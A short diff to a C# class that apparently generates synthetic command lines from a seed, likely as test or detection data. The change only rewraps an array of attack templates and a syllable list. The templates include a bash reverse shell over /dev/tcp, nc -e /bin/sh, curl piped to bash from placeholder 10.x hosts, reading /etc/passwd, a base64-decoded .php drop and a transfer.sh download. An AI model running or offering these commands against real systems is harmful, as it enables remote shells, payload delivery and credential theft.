@@ -71,14 +71,16 @@ internal sealed class CommandLines(int seed)
 
     private static readonly string[] AttackTemplates =
     [
-        "sh -c cat /etc/passwd", "sh -c curl -s http://10.{b}.{b}.{b}/{w} | bash", "bash -c bash -i >& /dev/tcp/10.{b}.{b}.{b}/{n} 0>&1",
-        "sh -c nc 10.{b}.{b}.{b} {n} -e /bin/sh", "sh -c echo {h} | base64 -d > {w}.php", "sh -c chmod +x /var/tmp/{w}", "sh -c wget -q transfer.sh/{w}",
+        "sh -c cat /etc/passwd", "sh -c curl -s http://10.{b}.{b}.{b}/{w} | bash",
+        "bash -c bash -i >& /dev/tcp/10.{b}.{b}.{b}/{n} 0>&1",
+        "sh -c nc 10.{b}.{b}.{b} {n} -e /bin/sh", "sh -c echo {h} | base64 -d > {w}.php",
+        "sh -c chmod +x /var/tmp/{w}", "sh -c wget -q transfer.sh/{w}",
     ];
 
     private static readonly string[] Syllables =
     [
-        "ba", "cor", "den", "fi", "gra", "hel", "in", "jo", "kal", "lo", "mer", "na", "or", "pro", "qua", "ri", "ser", "ta", "ul", "ver", "web",
-        "xi", "data", "log", "sync", "net", "cache", "app",
+        "ba", "cor", "den", "fi", "gra", "hel", "in", "jo", "kal", "lo", "mer", "na", "or", "pro", "qua", "ri", "ser", "ta", "ul", "ver",
+        "web", "xi", "data", "log", "sync", "net", "cache", "app",
     ];
 
     private readonly Random _random = new(seed);
